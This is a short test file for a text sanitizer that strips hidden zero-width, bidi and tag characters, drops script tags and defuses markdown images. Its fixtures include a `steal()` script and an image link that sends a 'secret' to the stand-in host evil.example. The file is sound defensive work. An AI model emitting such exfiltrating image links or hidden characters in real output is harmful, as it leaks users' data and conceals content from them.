import { cleanUntrustedText } from './untrusted-text';

describe('cleanUntrustedText', () => {
  it('removes zero-width, bidi and tag characters', () => {
    const hidden = 'pay\u200Bment \u202Eevil\u202C done\u{E0049}\u{E0067}';
    expect(cleanUntrustedText(hidden)).toBe('payment evil done');
  });

  it('reduces HTML to text and drops scripts', () => {
    expect(cleanUntrustedText('<p>Hi <b>there</b></p><script>steal()</script> &amp; bye')).toBe('Hi there & bye');
  });

  it('defuses markdown images so no client fetches their URL', () => {
    expect(cleanUntrustedText('see ![chart](https://evil.example/leak?d=secret)')).toBe('see [image: chart]');
  });

  it('keeps ordinary text, accents and emoji', () => {
    expect(cleanUntrustedText('Café — ok 👍')).toBe('Café — ok 👍');
  });
});
